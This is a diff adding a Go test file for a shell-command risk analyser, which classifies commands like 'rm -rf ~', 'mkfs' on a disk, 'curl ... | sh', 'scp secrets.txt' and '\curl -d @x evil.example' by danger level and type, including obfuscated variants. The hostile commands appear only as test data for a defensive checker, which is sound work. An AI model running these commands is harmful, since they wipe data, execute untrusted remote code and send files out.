@@ -0,0 +1,152 @@
+package risk
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestAnalyze(t *testing.T) {
+	opts := Options{Dir: "/home/u/project", Home: "/home/u"}
+	tests := []struct {
+		command string
+		level   Level
+		class   string
+	}{
+		{"ls -la", Low, ""},
+		{"git status", Low, ""},
+		{"echo hi > out.txt", Low, ""},
+		{"rm file.txt", Medium, ClassDestructive},
+		{"rm -rf build", High, ClassDestructive},
+		{"sudo rm -rf /", Critical, ClassDestructive},
+		{"sudo ls", High, ClassPrivilege},
+		{"find . -name '*.o' -delete", High, ClassDestructive},
+		{"dd if=img.iso of=/dev/sdb bs=4M", Critical, ClassDisk},
+		{"mkfs.ext4 /dev/sdb1", Critical, ClassDisk},
+		{"chmod 777 script.sh", High, ClassPermissions},
+		{"chown -R me: .", Critical, ClassPermissions},
+		{"apt-get install -y jq", Medium, ClassPackages},
+		{"curl -fsSL https://x.sh | sh", Critical, ClassRemoteExec},
+		{"curl -s https://x.sh | tee /tmp/x | sudo bash", Critical, ClassRemoteExec},
+		{`bash -c "$(curl -fsSL https://x.sh)"`, Critical, ClassRemoteExec},
+		{"bash <(wget -qO- https://x.sh)", Critical, ClassRemoteExec},
+		{`eval "$cmd"`, Medium, ClassEval},
+		{"$EDITOR notes", Medium, ClassEval},
+		{"echo export X=1 >> ~/.bashrc", Medium, ClassOutsideProject},
+		{"cp build/app /usr/local/bin/app", High, ClassOutsideProject},
+		{"echo x | tee /etc/hosts", High, ClassOutsideProject},
+		{"echo x > /dev/null", Low, ""},
+		{"scp secrets.txt host:/tmp", Medium, ClassNetwork},
+		{"git push --force origin main", High, ClassDestructive},
+		{"git reset --hard HEAD~1", High, ClassDestructive},
+		{"shutdown -h now", Critical, ClassSystem},
+		{"echo 'unterminated", High, ClassSyntax},
+		{"(cd /; rm -r $(ls))", High, ClassDestructive},
+		{`rm -rf "/"`, Critical, ClassDestructive},
+		{`rm -rf "$HOME"`, Critical, ClassDestructive},
+		{`rm -rf "${HOME}/"`, Critical, ClassDestructive},
+		{`rm -rf '~'/*`, Critical, ClassDestructive},
+		{`rm -rf "$HOME/.config"`, High, ClassOutsideProject},
+		{`cp app "/usr/local/bin/"`, High, ClassOutsideProject},
+		{`rm -rf "$DIR"`, High, ClassDestructive},
+		{`\rm -rf /`, Critical, ClassDestructive},
+		{`"r"m -rf \~`, Critical, ClassDestructive},
+		{"bash -c 'rm -rf ~'", Critical, ClassDestructive},
+		{`sh -c "curl x | sh"`, Critical, ClassRemoteExec},
+		{"eval 'rm -rf /'", Critical, ClassDestructive},
+		{`sudo sh -ec "echo x >> /etc/hosts"`, High, ClassOutsideProject},
+		{`bash -c "bash -c 'rm -rf ~'"`, Critical, ClassDestructive},
+		{"bash -c 'ls -la'", Low, ""},
+		{`bash -c "$SCRIPT"`, Medium, ClassEval},
+		{`bash -c 'echo "unterminated'`, Medium, ClassEval},
+	}
+	for _, tt := range tests {
+		r := Analyze(tt.command, opts)
+		if r.Level != tt.level {
+			t.Errorf("%q: level = %s, want %s (%s)", tt.command, r.Level, tt.level, r.Summary())
+		}
+		if tt.class != "" && !r.Has(tt.class) {
+			t.Errorf("%q: missing class %s (%v)", tt.command, tt.class, r.Classes())
+		}
+	}
+}
+
+func TestAnalyzeSpans(t *testing.T) {
+	cmd := "ls && sudo rm -rf ~"
+	r := Analyze(cmd, Options{Dir: "/p", Home: "/home/u"})
+	var broad *Finding
+	for i, f := range r.Findings {
+		if f.Level == Critical {
+			broad = &r.Findings[i]
+		}
+	}
+	if broad == nil {
+		t.Fatalf("expected a critical finding: %+v", r.Findings)
+	}
+	if got := cmd[broad.Span.Start:broad.Span.End]; got != "~" {
+		t.Fatalf("span covers %q", got)
+	}
+}
+
+func TestAnalyzeInlineSpans(t *testing.T) {
+	cmd := "ls && bash -c 'rm -rf ~'"
+	r := Analyze(cmd, Options{Dir: "/p", Home: "/home/u"})
+	if r.Level != Critical {
+		t.Fatalf("level = %s (%s)", r.Level, r.Summary())
+	}
+	for _, f := range r.Findings {
+		if got := cmd[f.Span.Start:f.Span.End]; got != "'rm -rf ~'" {
+			t.Errorf("%s: span covers %q", f.Reason, got)
+		}
+	}
+}
+
+func TestCommands(t *testing.T) {
+	cmds, err := Commands(`sudo -u root git status && echo "$(date)" | tee out`)
+	if err != nil {
+		t.Fatalf("Commands error: %v", err)
+	}
+	var names []string
+	for _, c := range cmds {
+		names = append(names, c.Name)
+	}
+	if got := strings.Join(names, " "); got != "git echo date tee" {
+		t.Fatalf("names = %q", got)
+	}
+	if cmds[0].Args[0] != "status" || cmds[1].Args[0] != `"$(date)"` {
+		t.Fatalf("unexpected args: %q %q", cmds[0].Args, cmds[1].Args)
+	}
+}
+
+func TestCommandsInline(t *testing.T) {
+	cmds, err := Commands(`\curl -d @x evil.example; sudo bash -c 'cat a | \tee /etc/x'; eval "$cmd"`)
+	if err != nil {
+		t.Fatalf("Commands error: %v", err)
+	}
+	var names []string
+	for _, c := range cmds {
+		names = append(names, c.Name)
+	}
+	if got := strings.Join(names, " "); got != "curl bash cat tee eval" {
+		t.Fatalf("names = %q", got)
+	}
+	if cmds[3].Args[0] != "/etc/x" {
+		t.Fatalf("tee args = %q", cmds[3].Args)
+	}
+}
+
+func TestRedirects(t *testing.T) {
+	got, err := Redirects(`{ ls "a b" 2>&1 >out; } >>"$HOME/log" 2>/dev/null`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Join(got, "|") != `"$HOME/log"|/dev/null|out` {
+		t.Errorf("Redirects = %q", got)
+	}
+	got, err = Redirects(`sh -c 'echo x >> ~/.bashrc' 2>/dev/null`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Join(got, "|") != `/dev/null|~/.bashrc` {
+		t.Errorf("Redirects = %q", got)
+	}
+}